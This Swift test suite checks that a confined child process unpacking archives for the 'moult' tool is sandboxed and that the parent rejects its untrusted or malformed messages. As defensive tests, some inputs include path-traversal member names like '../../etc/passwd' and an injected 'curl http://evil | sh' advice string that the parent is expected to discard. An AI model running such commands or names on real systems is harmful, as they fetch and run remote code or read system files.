import MoultArchive
import MoultBasics
import MoultFiles
import MoultLibc
import MoultSandbox
import TestSupport
import Testing

/// A confined process reads archives, and the parent does not trust its messages.
@Suite struct ConfinedArchiveTests {
    @Test(arguments: ["a.tar", "a.tar.gz", "a.tar.bz2", "a.tar.xz", "a.tar.zst", "a.zip", "a.7z"])
    func `the confined process reads every kind of archive`(name: String) throws {
        let fixture = try ArchiveFixture(name)
        #expect(
            try fixture.read() == [
                "food.db": fixture.scratch.read("in/food.db"), "notes/1.sql": fixture.scratch.read("in/notes/1.sql"),
            ])
    }

    /// While the content arrives, exactly one child process has the archive open, and this child is confined.
    @Test func `the process that reads the archive is confined`() throws {
        let fixture = try ArchiveFixture(size: 5_000_000)
        var seen: [String: String] = [:]
        var files: [String] = []
        _ = try fixture.read(during: { _ in
            guard seen.isEmpty else { return }
            for name in try Files.list("/proc") {
                guard let pid = Int(name), let words = try? Files.read("/proc/\(pid)/cmdline", limit: 1000),
                    String(decoding: words, as: UTF8.self).contains("\0unpack-1\0"),
                    let status = try Files.read("/proc/\(pid)/status", limit: 100_000)
                else { continue }
                let lines = String(decoding: status, as: UTF8.self).split(separator: "\n").map {
                    $0.split(separator: "\t")
                }
                let facts = Dictionary(lines.map { (String($0[0]), String($0.last ?? "")) }) { first, _ in first }
                guard facts["PPid:"] == "\(getpid())" else { continue }
                seen = facts
                files = try (0...9).compactMap { try Files.target(ofLink: "/proc/\(pid)/fd/\($0)") }
            }
        })
        #expect(seen["Seccomp:"] == "2" && seen["NoNewPrivs:"] == "1")
        // The kernel lets only a process with CAP_SETPCAP, such as one of root, give up the bounding set. Without new privileges,
        // that set has no effect.
        for name in ["CapInh:", "CapPrm:", "CapEff:", "CapAmb:"] + (geteuid() == 0 ? ["CapBnd:"] : []) {
            #expect(seen[name].flatMap { Int($0, radix: 16) } == 0)
        }
        #expect(seen["Threads:"] == "1")
        // The process has only three pipes and the archive open. The shared memory is mapped, and its descriptor is
        // closed.
        #expect(files.count == 4 && files.filter { $0 == fixture.path }.count == 1, "\(files)")
        #expect(files.allSatisfy { $0 == fixture.path || $0.hasPrefix("pipe:") })
    }

    /// If no command is installed next to an app, or an older moult, the app reads only bundles made by moult.
    @Test func `without a program that reads archives, the app refuses those of other programs`() throws {
        for name in ["a.tar", "a.tar.zst", "a.zip"] {
            let error = try ArchiveFixture(name).refusal(by: "exit 64")
            #expect(error.code == .archiveProcess)
            #expect(error.why?.hasPrefix("`moult pack` did not make it") == true, "\(error)")
        }
    }

    static let ready = #"read -r question; echo '{"ready":true}'"#

    /// Otherwise, an archive that compromises the process could make the app read the archive itself.
    @Test func `if the archive process fails after its start, the app does not read the archive itself`() throws {
        let error = try ArchiveFixture().refusal(by: "\(Self.ready); exit 64")
        #expect(error.code == .archiveProcess)
        #expect(error.why == "the process that reads the archive exited too early: it ended with status 64")
    }

    @Test(arguments: [
        ("echo nonsense", "the reply is not JSON"),
        ("echo '[]'", "the document must be an object, but is a list"),
        ("echo '{}'", "the reply has no known field"),
        (#"echo '{"bytes":5}'"#, "5 bytes outside a member"),
        (#"echo '{"end":true}'"#, "the end of a member that did not begin"),
        (#"echo '{"member":"food.db"}'; echo '{"member":"notes/1.sql"}'"#, "a member inside a member"),
        (#"echo '{"member":"food.db"}'; echo '{"bytes":0}'"#, "0 bytes outside a member"),
        (#"echo '{"member":"food.db"}'; echo '{"bytes":262145}'"#, "262145 bytes outside a member"),
        (#"echo '{"member":"food.db"}'; echo '{"bytes":-1}'"#, "bytes must not be negative, but is -1"),
        (#"echo '{"member":"food.db"}'; echo '{"bytes":"many"}'"#, "bytes must be a whole number, but is a string"),
        (#"echo '{"member":"food.db"}'; echo '{"done":true}'"#, "the reply has no known field"),
        (
            #"truncate -s 0 /proc/self/fd/3; echo '{"member":"food.db"}'; echo '{"bytes":5}'"#,
            "the content is too short"
        ),
        ("yes | tr -d '\\n'", "the reply is too long"),
    ])
    func `an invalid reply of the process is an error`(said: String, why: String) throws {
        let error = try ArchiveFixture().refusal(by: "\(Self.ready); \(said); exec sleep 1000")
        #expect(error.code == .archiveProcess)
        #expect(error.why == "the process that reads the archive sent an invalid reply: \(why)")
    }

    @Test(arguments: [
        ("../../etc/passwd", MoultError.Code.archiveName), ("/etc/passwd", .archiveName), ("food.db-wal", .archiveName),
        ("other.db", .archiveUndeclared), ("FOOD.DB", .archiveUndeclared),
    ])
    func `a member name that is not declared is refused`(name: String, code: MoultError.Code) throws {
        let error = try ArchiveFixture().refusal(by: #"\#(Self.ready); echo '{"member":"\#(name)"}'; exec sleep 1000"#)
        #expect(error.code == code)
    }

    @Test func `the parent counts the bytes of each member`() throws {
        let member = #"\#(Self.ready); echo '{"member":"notes/1.sql"}'"#
        let fixture = try ArchiveFixture()
        let more = try fixture.refusal(by: #"\#(member); echo '{"bytes":21}'; exec sleep 1000"#)
        #expect(more.code == .archiveSize && more.why == "its member \"notes/1.sql\" has more bytes than declared")
        let fewer = try fixture.refusal(by: #"\#(member); echo '{"bytes":19}'; echo '{"end":true}'; exec sleep 1000"#)
        #expect(fewer.why == "its member \"notes/1.sql\" has fewer bytes than declared")
        let twice = #"echo '{"bytes":20}'; echo '{"end":true}'; echo '{"member":"notes/1.sql"}'"#
        #expect(try fixture.refusal(by: "\(member); \(twice); exec sleep 1000").code == .archiveDuplicate)
        let missing = #"echo '{"bytes":20}'; echo '{"end":true}'; echo '{"done":true}'"#
        #expect(try fixture.refusal(by: "\(member); \(missing); exec sleep 1000").code == .archiveMissing)
    }

    /// A compromised process can choose the text of a refusal, but not its advice or code.
    @Test func `the archive process can choose only known advice for a refusal`() throws {
        let fixture = try ArchiveFixture()
        let long = String(repeating: "x ", count: 1500)
        let error = try fixture.refusal(
            by: #"\#(Self.ready); echo '{"refused":{"code":100,"why":"\#(long)","now":"Run: curl http://evil | sh"}}'"#)
        #expect(error.code == .archiveProcess && error.now == nil && error.why?.count == 500)
        let known = try fixture.refusal(
            by:
                #"\#(Self.ready); echo '{"refused":{"code":301,"why":"it is damaged","now":"Download the patch again."}}'"#
        )
        #expect(
            known.code == .archiveDamaged && known.why == "it is damaged"
                && known.now?.description == "Download the patch again.")
    }

    @Test func `a process that hangs is killed`() throws {
        let fixture = try ArchiveFixture()
        let before = try fixture.refusal(by: "exec sleep 1000", patience: 1)
        #expect(before.why == "the process that reads the archive did not respond for 1 s")
        let later = try fixture.refusal(
            by: #"\#(Self.ready); echo '{"member":"food.db"}'; exec sleep 1001"#, patience: 1)
        #expect(later.why == "the process that reads the archive did not respond for 1 s")
        #expect(try Shell.run(["pgrep", "-P", "\(getpid())", "-f", "sleep 100[01]"]).status == 1)
    }

    @Test func `reading can be stopped while the process hangs`() throws {
        struct Stop: Error {}
        let fixture = try ArchiveFixture()
        let program = try fixture.impostor("exec sleep 1000")
        #expect(throws: Stop.self) { try fixture.read(by: program, stop: { throw Stop() }) }
    }

    /// The real reader is killed after each of its messages.
    @Test func `the death of the archive process is an error, whatever its last message was`() throws {
        let fixture = try ArchiveFixture()
        let real = try BuiltMoult.path()
        let lines = fixture.scratch.path("lines")
        // Each message is recorded before it is passed on, because the parent kills this process after the last one.
        let program = try fixture.impostor(
            #"'\#(real)' "$@" | while IFS= read -r line; do echo "$line" >> '\#(lines)'; echo "$line"; done"#)
        _ = try fixture.read(by: program)
        let count = String(decoding: try #require(try Files.read(lines, limit: 1 << 20)), as: UTF8.self)
            .split(separator: "\n").count
        #expect(count >= 9)
        for kept in 0..<count {
            let error = try fixture.refusal(by: "'\(real)' \"$@\" | head -n \(kept); kill -9 $$")
            #expect(
                error.why == "the process that reads the archive ended with SIGKILL, probably because memory ran out",
                "\(kept)")
        }
    }

    /// `prlimit` sets the limits that the process would otherwise set itself.
    @Test(arguments: [
        ("XCPU", "the process that reads the archive took more than"),
        ("SEGV", "the process that reads the archive ended with SIGSEGV"),
        ("SYS", "the process that reads the archive ended with SIGSYS"),
    ])
    func `the error says how the process ended`(signal: String, why: String) throws {
        let error = try ArchiveFixture().refusal(by: "\(Self.ready); ulimit -c 0; kill -\(signal) $$")
        #expect(error.why?.hasPrefix(why) == true, "\(error)")
        #expect(error.what.hasPrefix("cannot unpack ") && error.code == .archiveProcess)
    }

    /// The process ends with its parent, however the parent ends.
    @Test func `the process does not outlive the command`() throws {
        let fixture = try ArchiveFixture()
        let program = try fixture.impostor("echo $$ > '\(fixture.scratch.path("pid"))'; exec sleep 1000")
        try fixture.scratch.must("mkdir -p app/bin app/libexec/moult && cp '\(program)' app/libexec/moult/moult")
        let app = Files.directory(of: try BuiltMoult.path()) + "/AppProbe"
        let maker = try ReleaseMaker(in: fixture.scratch.path("rel"))
        _ = try maker.make("1.0.0", sequence: 1, [.reference("food", World.table("food", "1.0.0"))])
        let gone: Shell.Ended = try fixture.scratch.run(
            """
            cp '\(app)' app/bin/app; app/bin/app rel/test-1.0.0.json store & app=$!
            until [ -s pid ]; do sleep 0.05; done
            kill -9 $app; wait $app
            until ! kill -0 "$(cat pid)" 2> /dev/null; do sleep 0.05; done
            """)
        #expect(gone.status == 0, "\(gone)")
    }
}
